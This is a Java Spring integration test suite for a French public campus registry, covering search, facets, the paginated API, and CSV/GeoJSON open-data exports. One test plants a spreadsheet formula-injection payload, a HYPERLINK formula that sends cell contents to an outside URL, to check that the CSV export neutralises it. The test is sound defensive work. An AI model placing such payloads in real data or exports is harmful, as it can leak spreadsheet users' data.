package fr.passerelle.campus;

import static org.assertj.core.api.Assertions.assertThat;
import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.greaterThan;
import static org.hamcrest.Matchers.not;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.content;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.header;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.jsonPath;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.status;

import fr.passerelle.PasserelleIntegrationTest;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Set;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.test.web.servlet.MockMvc;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.ObjectMapper;

@PasserelleIntegrationTest
class PublicRegistryTest {

    @Autowired
    MockMvc mvc;
    @Autowired
    CampusSearch search;
    @Autowired
    CampusRegistry registry;
    @Autowired
    ObjectMapper json;
    @Autowired
    fr.passerelle.identity.Accounts accounts;

    @Test
    void demoRegistryHoldsAtLeastThirtyCampusesAcrossManyRegions() {
        List<CampusCard> demo = registry.all().stream().filter(c -> c.name().startsWith("Campus des métiers")).toList();
        assertThat(demo).hasSizeGreaterThanOrEqualTo(30);
        assertThat(demo.stream().map(CampusCard::regionCode).distinct().count()).isGreaterThanOrEqualTo(7);
        assertThat(demo).allSatisfy(c -> assertThat(c.latitude()).isNotNull());
    }

    @Test
    void searchIgnoresAccentsAndCase() {
        SearchResults plain = search.search(query("numerique"));
        SearchResults accented = search.search(query("NUMÉRIQUE"));
        assertThat(plain.total()).isPositive();
        assertThat(accented.items()).extracting(CampusCard::id).containsExactlyElementsOf(plain.items().stream().map(CampusCard::id).toList());
        assertThat(plain.items()).anySatisfy(c -> assertThat(c.sector()).isEqualTo(Sector.DIGITAL));
    }

    @Test
    void eachFacetCountsTheCampusesThatMatchTheOtherFilters() {
        SearchResults all = search.search(query(""));
        var regionFacet = all.facets().stream().filter(f -> f.parameter().equals("region")).findFirst().orElseThrow();
        assertThat(regionFacet.values().stream().mapToLong(SearchResults.FacetValue::count).sum()).isEqualTo(all.total());

        var first = regionFacet.values().get(0);
        SearchResults filtered = search.search(new CampusQuery("", Set.of(first.value()), Set.of(), Set.of(), Set.of(), Set.of(), 1, 100));
        assertThat(filtered.total()).isEqualTo(first.count());
        assertThat(filtered.items()).allSatisfy(c -> assertThat(c.regionCode()).isEqualTo(first.value()));
        var regionFacetWhenFiltered = filtered.facets().stream().filter(f -> f.parameter().equals("region")).findFirst().orElseThrow();
        assertThat(regionFacetWhenFiltered.values()).hasSameSizeAs(regionFacet.values());
    }

    @Test
    void searchPageShowsResultsAndFacetsAndHtmxGetsOnlyTheResultArea() throws Exception {
        mvc.perform(get("/campus").param("q", "numerique"))
                .andExpect(status().isOk())
                .andExpect(content().string(containsString("campus trouvé")))
                .andExpect(content().string(containsString("fr-header")))
                .andExpect(content().string(containsString("Filière")));
        mvc.perform(get("/campus").param("q", "numerique").header("HX-Request", "true"))
                .andExpect(status().isOk())
                .andExpect(content().string(containsString("id=\"search-area\"")))
                .andExpect(content().string(not(containsString("fr-header"))));
    }

    @Test
    void apiFiltersLikeTheSearchPageAndPaginates() throws Exception {
        long total = search.search(query("")).total();
        String body = mvc.perform(get("/api/v1/campuses").param("taille", "5").param("page", "2"))
                .andExpect(status().isOk())
                .andExpect(jsonPath("$.page").value(2))
                .andExpect(jsonPath("$.size").value(5))
                .andExpect(jsonPath("$.totalItems").value(total))
                .andReturn().getResponse().getContentAsString(StandardCharsets.UTF_8);
        assertThat(json.readTree(body).get("items").size()).isEqualTo(5);

        String excellence = mvc.perform(get("/api/v1/campuses").param("categorie", "EXCELLENCE").param("taille", "200"))
                .andExpect(status().isOk()).andReturn().getResponse().getContentAsString(StandardCharsets.UTF_8);
        JsonNode items = json.readTree(excellence).get("items");
        items.forEach(item -> assertThat(item.get("category").asString()).isEqualTo("EXCELLENCE"));
    }

    @Test
    void apiExplainsAnUnknownFilterValueInFrench() throws Exception {
        mvc.perform(get("/api/v1/campuses").param("filiere", "astronautique"))
                .andExpect(status().isBadRequest())
                .andExpect(jsonPath("$.detail").value(containsString("Valeur inconnue pour « filière » : astronautique")));
    }

    @Test
    void aSearchLongerThanTwoHundredCharactersIsCutAndTheReaderTold() throws Exception {
        String wildcard = "a".repeat(1_001) + "*";
        mvc.perform(get("/campus").param("q", wildcard))
                .andExpect(status().isOk())
                .andExpect(content().string(containsString("La recherche ne peut dépasser 200 caractères")));
        mvc.perform(get("/api/v1/campuses").param("q", wildcard))
                .andExpect(status().isBadRequest())
                .andExpect(jsonPath("$.detail").value(containsString("La recherche ne peut dépasser 200 caractères")));
        mvc.perform(get("/open-data/campuses.csv").param("q", wildcard))
                .andExpect(status().isBadRequest())
                .andExpect(jsonPath("$.detail").value(containsString("La recherche ne peut dépasser 200 caractères")));
        mvc.perform(get("/api/v1/campuses").param("page", "99999999999"))
                .andExpect(status().isBadRequest())
                .andExpect(jsonPath("$.detail").value(containsString("« page » doit être un entier positif")));
    }

    @Test
    void openDataNeverHandsASpreadsheetAFormula() throws Exception {
        var admin = accounts.byUsername("admin").orElseThrow();
        String name = "=HYPERLINK(\"https://example.org/?\"&A1;\"Campus\") " + java.util.UUID.randomUUID().toString().substring(0, 6);
        registry.create(admin, new CampusIdentity(name, Sector.DIGITAL, "52", "17", null, null, 47.2, -1.55, null, LabelCategory.STANDARD,
                LabelStatus.APPLICANT, null, null, null, null, null, null, null, null));

        String csv = mvc.perform(get("/open-data/campuses.csv")).andExpect(status().isOk()).andReturn().getResponse()
                .getContentAsString(StandardCharsets.UTF_8);

        String line = csv.lines().filter(l -> l.contains("HYPERLINK")).findFirst().orElseThrow();
        assertThat(line).contains(";\"'=HYPERLINK(", ";47.2;-1.55;").doesNotContain(";=").doesNotContain(";\"=");
    }

    @Test
    void campusPageShowsIdentityTerritoryAndPartners() throws Exception {
        CampusCard campus = registry.all().get(0);
        mvc.perform(get("/campus/" + campus.slug()))
                .andExpect(status().isOk())
                .andExpect(content().string(containsString(escapeHtml(campus.name()))))
                .andExpect(content().string(containsString(escapeHtml(campus.regionName()))))
                .andExpect(content().string(containsString("Partenaires")))
                .andExpect(content().string(containsString("Établissement support")));
        mvc.perform(get("/campus/nexiste-pas")).andExpect(status().isNotFound());
    }

    @Test
    void openDataCsvIsSemicolonSeparatedUtf8WithAHeaderRow() throws Exception {
        var response = mvc.perform(get("/open-data/campuses.csv"))
                .andExpect(status().isOk())
                .andExpect(header().string("Content-Type", containsString("text/csv")))
                .andReturn().getResponse();
        String csv = response.getContentAsString(StandardCharsets.UTF_8);
        String[] lines = csv.split("\r\n");
        assertThat(lines[0]).startsWith("identifiant;nom;filiere;code_region;region;");
        assertThat(lines.length - 1).isEqualTo(registry.count());
        assertThat(csv).contains("Hauts-de-France");
    }

    @Test
    void openDataGeoJsonIsAFeatureCollectionOfWgs84Points() throws Exception {
        String body = mvc.perform(get("/open-data/campuses.geojson").param("region", "32"))
                .andExpect(status().isOk())
                .andExpect(jsonPath("$.type").value("FeatureCollection"))
                .andExpect(jsonPath("$.features.length()").value(greaterThan(0)))
                .andReturn().getResponse().getContentAsString(StandardCharsets.UTF_8);
        for (JsonNode feature : json.readTree(body).get("features")) {
            JsonNode coordinates = feature.get("geometry").get("coordinates");
            assertThat(feature.get("geometry").get("type").asString()).isEqualTo("Point");
            assertThat(coordinates.get(0).asDouble()).isBetween(1.0, 5.0);   // Hauts-de-France longitudes
            assertThat(coordinates.get(1).asDouble()).isBetween(48.8, 51.2); // and latitudes
        }
    }

    @Test
    void openApiDocumentsTheCampusApi() throws Exception {
        mvc.perform(get("/v3/api-docs"))
                .andExpect(status().isOk())
                .andExpect(content().string(containsString("/api/v1/campuses")));
        mvc.perform(get("/swagger-ui/index.html")).andExpect(status().isOk());
    }

    @Test
    void homePageShowsKeyFiguresAndTheMapData() throws Exception {
        mvc.perform(get("/"))
                .andExpect(status().isOk())
                .andExpect(content().string(containsString("Chiffres clés")))
                .andExpect(content().string(containsString("id=\"map-data\"")))
                .andExpect(content().string(containsString("\"lat\":")));
    }

    private static CampusQuery query(String text) {
        return new CampusQuery(text, Set.of(), Set.of(), Set.of(), Set.of(), Set.of(), 1, 200);
    }

    private static String escapeHtml(String text) {
        return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace("\"", "&quot;").replace("'", "&#39;");
    }
}
